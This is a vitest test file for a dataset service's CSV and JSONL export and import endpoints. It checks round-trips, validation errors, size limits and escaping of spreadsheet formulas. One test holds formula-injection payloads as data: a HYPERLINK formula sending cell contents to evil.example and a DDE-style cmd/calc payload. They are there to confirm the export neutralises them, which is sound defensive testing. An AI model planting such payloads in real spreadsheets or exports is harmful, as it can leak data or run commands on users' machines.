import { describe, expect, it } from 'vitest';
import { useStack } from '../support/fixtures';

// Datasets as files: export to CSV or JSONL (streamed) and import, all or nothing.
const {
  stack,
  orgs: [{ key }],
} = useStack({ worker: false, orgs: ['datasets-transfer'] });

const send = (method: 'GET' | 'POST', path: string, body?: unknown) =>
  stack.app.inject({
    method,
    url: `/api/svc/v1${path}`,
    headers: { 'x-api-key': key, ...(body !== undefined && { 'content-type': 'application/json' }) },
    payload: body === undefined ? undefined : JSON.stringify(body),
  });

type Case = { inputs: Record<string, string>; target: string | null; tags: string[] };

async function create(name: string, columns: string[], cases: Case[] = []) {
  const res = await send('POST', '/collection', { name, column_names: columns, test_cases: cases });
  expect(res.statusCode, res.body).toBe(200);
  return res.json() as { id: number; last_updated_at: string; test_case_ids: number[] };
}
/** The dataset's test cases in id order, as the clients read them. */
async function casesOf(id: number): Promise<Case[]> {
  const dataset = (await send('GET', `/collection/${id}`)).json();
  return Object.values(dataset.test_cases as Record<string, Case & { id: number }>)
    .sort((a, b) => a.id - b.id)
    .map(({ inputs, target, tags }) => ({ inputs, target, tags }));
}
const exported = (id: number, format: string) => send('GET', `/datasets/${id}/export?format=${format}`);
const importFile = (id: number, format: string, content: string) =>
  send('POST', `/datasets/${id}/import`, { format, content });
const countOf = async (id: number) =>
  (await send('GET', `/datasets/${id}/test_cases?page_size=1`)).json().total as number;

const COLUMNS = ['question', 'context, with "quotes"', 'язык 列'];
const AWKWARD: Case[] = [
  {
    inputs: {
      question: 'a, b and "c"',
      'context, with "quotes"': 'line one\nline two\r\nline three\rend',
      'язык 列': '🙂 émoji, RTL: שלום',
    },
    target: '"ONE"',
    tags: ['a,b', 'semi;colon', 'quote"d', ' spaced '],
  },
  { inputs: { question: '', 'context, with "quotes"': ' ', 'язык 列': '""' }, target: ' ', tags: [] },
  { inputs: { question: '=1+1', 'context, with "quotes"': 'null', 'язык 列': '[1, 2]' }, target: null, tags: ['日本'] },
  {
    inputs: { question: '\t tab', 'context, with "quotes"': '\\n is no newline', 'язык 列': '{"a": 1}' },
    target: 'multi\nline',
    tags: [],
  },
];

describe('GET /datasets/{dataset_id}/export', () => {
  it('writes CSV: input columns, then target, then tags as JSON; no target as an empty field', async () => {
    const dataset = await create(
      'csv-shape',
      ['q'],
      [
        { inputs: { q: 'x' }, target: 't', tags: ['a', 'b'] },
        { inputs: { q: '' }, target: null, tags: [] },
      ],
    );
    const res = await exported(dataset.id, 'csv');
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(
      `attachment; filename="csv-shape.csv"; filename*=UTF-8''csv-shape.csv`,
    );
    expect(res.body).toBe('q,target,tags\nx,t,"[""a"",""b""]"\n,,[]\n');
    expect((await send('GET', `/datasets/${dataset.id}/export`)).body).toBe(res.body);
  });

  it('writes JSONL: one {inputs, target, tags} object a line', async () => {
    const dataset = await create(
      'jsonl-shape',
      ['q'],
      [
        { inputs: { q: 'x' }, target: 't', tags: ['a'] },
        { inputs: { q: 'y' }, target: null, tags: [] },
      ],
    );
    const res = await exported(dataset.id, 'jsonl');
    expect(res.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="jsonl-shape\.jsonl"/);
    expect(res.body).toBe(
      '{"inputs":{"q":"x"},"target":"t","tags":["a"]}\n{"inputs":{"q":"y"},"target":null,"tags":[]}\n',
    );
  });

  it('names the file by the dataset, with an ASCII stand-in for other characters', async () => {
    const dataset = await create('Q&A "test" 日本', ['q']);
    expect((await exported(dataset.id, 'csv')).headers['content-disposition']).toBe(
      `attachment; filename="Q&A _test_ __.csv"; filename*=UTF-8''Q%26A%20%22test%22%20%E6%97%A5%E6%9C%AC.csv`,
    );
  });

  it('escapes, by default, CSV cells a spreadsheet would run as formulas; JSONL and formulas=keep write them as stored', async () => {
    const risky = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)'];
    const dataset = await create(
      'formulas',
      ['=q', 'plain'],
      [
        ...risky.map((q) => ({ inputs: { '=q': q, plain: 'a=b' }, target: null, tags: [] })),
        { inputs: { '=q': '\t=1+1', plain: '\r=1+1' }, target: '=2', tags: ['=t'] },
      ],
    );
    const res = await exported(dataset.id, 'csv');
    expect(res.statusCode).toBe(200);
    expect(res.body).toBe(
      [
        "'=q,plain,target,tags",
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",a=b,,[]`,
        "'+1+cmd|' /C calc'!A0,a=b,,[]",
        "'-2+3,a=b,,[]",
        "'@SUM(A1),a=b,,[]",
        `'\t=1+1,"'\r=1+1",'=2,"[""=t""]"`,
        '',
      ].join('\n'),
    );
    const kept = await exported(dataset.id, 'csv&formulas=keep');
    expect(kept.body.split('\n').slice(0, 3)).toEqual([
      '=q,plain,target,tags',
      `"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",a=b,,[]`,
      "+1+cmd|' /C calc'!A0,a=b,,[]",
    ]);
    const jsonl = (await exported(dataset.id, 'jsonl')).body;
    expect(jsonl.split('\n')[0]).toBe(
      JSON.stringify({ inputs: { '=q': risky[0], plain: 'a=b' }, target: null, tags: [] }),
    );
    expect((await exported(dataset.id, 'jsonl&formulas=keep')).body).toBe(jsonl);
  });

  it('answers 422 for an unknown format and 404 for an unknown dataset', async () => {
    const dataset = await create('format-check', ['q']);
    const res = await exported(dataset.id, 'xlsx');
    expect(res.statusCode).toBe(422);
    expect(res.json().detail[0].loc).toEqual(['query', 'format']);
    const formulas = await exported(dataset.id, 'csv&formulas=drop');
    expect(formulas.statusCode).toBe(422);
    expect(formulas.json().detail[0].loc).toEqual(['query', 'formulas']);
    expect((await exported(987_654_321, 'csv')).json()).toEqual({ detail: 'dataset not found' });
  });
});

describe('POST /datasets/{dataset_id}/import', () => {
  // CSV exactly only with formulas=keep: the default export escapes `=1+1` and `\t tab` for spreadsheets.
  it.each([
    ['csv', 'csv&formulas=keep'],
    ['jsonl', 'jsonl'],
  ])(
    'round-trips awkward values through %s: export, import into an empty dataset, the same test cases',
    async (format, exportQuery) => {
      const source = await create(`round-trip-${format}`, COLUMNS, AWKWARD);
      expect(await casesOf(source.id)).toEqual(AWKWARD);
      const file = (await exported(source.id, exportQuery)).body;
      const copy = await create(`round-trip-${format}-copy`, COLUMNS);
      const res = await importFile(copy.id, format, file);
      expect(res.statusCode, res.body).toBe(200);
      const { imported, test_case_ids } = res.json();
      expect(imported).toBe(AWKWARD.length);
      expect(test_case_ids).toEqual([...test_case_ids].sort((a: number, b: number) => a - b));
      expect(await casesOf(copy.id)).toEqual(AWKWARD);
      expect((await exported(copy.id, exportQuery)).body).toBe(file);
    },
  );

  it('keeps, on import, the quote a default CSV export put before a formula: that file is for spreadsheets', async () => {
    const cases = [{ inputs: { q: '=1+1' }, target: '-1', tags: [] }];
    const source = await create('escaped-import', ['q'], cases);
    const copy = await create('escaped-import-copy', ['q']);
    await importFile(copy.id, 'csv', (await exported(source.id, 'csv')).body);
    expect(await casesOf(copy.id)).toEqual([{ inputs: { q: "'=1+1" }, target: "'-1", tags: [] }]);
  });

  it('reads an empty target cell as no target, so only JSONL keeps an empty-string target', async () => {
    const source = await create('empty-target', ['q'], [{ inputs: { q: 'x' }, target: '', tags: [] }]);
    for (const [format, target] of [
      ['csv', null],
      ['jsonl', ''],
    ] as const) {
      const copy = await create(`empty-target-${format}`, ['q']);
      await importFile(copy.id, format, (await exported(source.id, format)).body);
      expect(await casesOf(copy.id)).toEqual([{ inputs: { q: 'x' }, target, tags: [] }]);
    }
  });

  it('imports and streams out more test cases than one insert or one read takes', async () => {
    const rows = 12_000;
    const dataset = await create('big', ['q', 'r']);
    const lines = Array.from({ length: rows }, (_, i) => JSON.stringify({ inputs: { q: `q${i}`, r: 'r' }, tags: [] }));
    const res = await importFile(dataset.id, 'jsonl', lines.join('\n'));
    expect(res.statusCode, res.body).toBe(200);
    const ids: number[] = res.json().test_case_ids;
    expect(ids).toHaveLength(rows);
    expect(ids.every((id, i) => i === 0 || id > ids[i - 1])).toBe(true);

    const csv = (await exported(dataset.id, 'csv')).body;
    const records = csv.trimEnd().split('\n');
    expect(records).toHaveLength(rows + 1);
    expect(records.at(-1)).toBe(`q${rows - 1},r,,[]`);
    const copy = await create('big-copy', ['r', 'q']);
    expect((await importFile(copy.id, 'csv', csv)).json().imported).toBe(rows);
    const page = (await send('GET', `/datasets/${copy.id}/test_cases?page=12&page_size=1000`)).json();
    expect(page.results.at(-1)).toMatchObject({ inputs: { q: `q${rows - 1}`, r: 'r' }, target: null, tags: [] });
  });

  it('refuses a CSV with bad rows among good ones, naming each row, and imports nothing', async () => {
    const dataset = await create('csv-bad-rows', ['q', 'r'], [{ inputs: { q: '0', r: '0' }, target: null, tags: [] }]);
    const content = ['q,r,target,tags', 'a,b,t,', 'only,two', 'c,d,t,not json', 'e,f,t,[1]', 'g,h,,"[""ok""]"'].join(
      '\r\n',
    );
    const res = await importFile(dataset.id, 'csv', content);
    expect(res.statusCode).toBe(422);
    expect(res.json().detail).toEqual([
      { loc: ['body', 'content', 'row', 2], msg: '2 fields where the header has 4', type: 'csv_invalid' },
      { loc: ['body', 'content', 'row', 3, 'tags'], msg: expect.stringMatching(/JSON array/), type: 'json_invalid' },
      { loc: ['body', 'content', 'row', 4, 'tags', 0], msg: expect.any(String), type: 'invalid_type' },
    ]);
    expect(await countOf(dataset.id)).toBe(1);
    expect((await send('GET', `/collection/${dataset.id}`)).json().last_updated_at).toBe(dataset.last_updated_at);
  });

  it('refuses a JSONL file with bad lines among good ones, naming each line, and imports nothing', async () => {
    const dataset = await create('jsonl-bad-rows', ['q', 'r']);
    const content = [
      '{"inputs":{"q":"1","r":"2"}}',
      '{"inputs":{"q":"1"}}',
      '{not json',
      '',
      '{"inputs":{"q":"1","r":"2"},"target":{"x":1}}',
      '{"inputs":{"q":"1","r":"2","s":"3"},"tags":["fine"]}',
      '[1]',
      '{"inputs":{"q":"1","r":"2"},"target":7,"tags":null}',
    ].join('\n');
    const res = await importFile(dataset.id, 'jsonl', content);
    expect(res.statusCode).toBe(422);
    expect(res.json().detail).toEqual([
      {
        loc: ['body', 'content', 'row', 2, 'inputs'],
        msg: "inputs must have the dataset's columns (q, r); missing column(s): r",
        type: 'value_error',
      },
      { loc: ['body', 'content', 'row', 3], msg: expect.stringMatching(/^invalid JSON/), type: 'json_invalid' },
      { loc: ['body', 'content', 'row', 5, 'target'], msg: expect.any(String), type: 'invalid_union' },
      {
        loc: ['body', 'content', 'row', 6, 'inputs'],
        msg: "inputs must have the dataset's columns (q, r); unknown column(s): s",
        type: 'value_error',
      },
      { loc: ['body', 'content', 'row', 7], msg: expect.any(String), type: 'invalid_type' },
    ]);
    expect(await countOf(dataset.id)).toBe(0);
  });

  it("refuses a CSV whose header is not the dataset's columns, or that does not parse", async () => {
    const dataset = await create('csv-bad-file', ['q', 'r']);
    const cases: [string, (string | number)[], RegExp][] = [
      ['q,extra\n1,2', ['header'], /unknown column\(s\): extra; missing column\(s\): r/],
      ['q,r,q\n1,2,3', ['header'], /repeated column\(s\): q/],
      ['', ['header'], /missing column\(s\): q, r/],
      ['q,r\n1,2\n"unclosed,3\n', ['row', 2], /Quote Not Closed/],
    ];
    for (const [content, at, msg] of cases) {
      const res = await importFile(dataset.id, 'csv', content);
      expect(res.statusCode, content).toBe(422);
      expect(res.json().detail).toEqual([
        { loc: ['body', 'content', ...at], msg: expect.stringMatching(msg), type: expect.any(String) },
      ]);
    }
    expect(await countOf(dataset.id)).toBe(0);
  });

  it('lists the first 100 bad rows and counts the rest; refuses more than 100,000 rows and bodies over the limit', async () => {
    const dataset = await create('too-much', ['q']);
    const bad = await importFile(dataset.id, 'jsonl', '{}\n'.repeat(150));
    expect(bad.statusCode).toBe(422);
    const detail = bad.json().detail;
    expect(detail).toHaveLength(101);
    expect(detail[99].loc).toEqual(['body', 'content', 'row', 100, 'inputs']);
    expect(detail[100]).toEqual({
      loc: ['body', 'content'],
      msg: '50 more rows are invalid (the first 100 are listed)',
      type: 'too_many_errors',
    });

    const many = await importFile(dataset.id, 'csv', `q\n${'"x"\n'.repeat(100_001)}`);
    expect(many.statusCode).toBe(422);
    expect(many.json().detail).toEqual([
      { loc: ['body', 'content'], msg: expect.stringMatching(/more than 100000 rows/), type: 'too_big' },
    ]);

    const huge = await importFile(dataset.id, 'csv', `q\n${'x'.repeat(11 * 2 ** 20)}\n`);
    expect(huge.statusCode).toBe(413);
    expect(huge.json()).toEqual({ detail: 'request body is too large' });
    expect(await countOf(dataset.id)).toBe(0);
  });

  it('answers 422 for an unknown format or no content, and 404 for an unknown dataset', async () => {
    const dataset = await create('import-checks', ['q']);
    const format = await send('POST', `/datasets/${dataset.id}/import`, { format: 'xml', content: '' });
    expect(format.statusCode).toBe(422);
    expect(format.json().detail[0].loc).toEqual(['body', 'format']);
    const content = await send('POST', `/datasets/${dataset.id}/import`, { format: 'csv' });
    expect(content.json().detail[0].loc).toEqual(['body', 'content']);
    expect((await importFile(987_654_321, 'jsonl', '')).statusCode).toBe(404);
  });
});
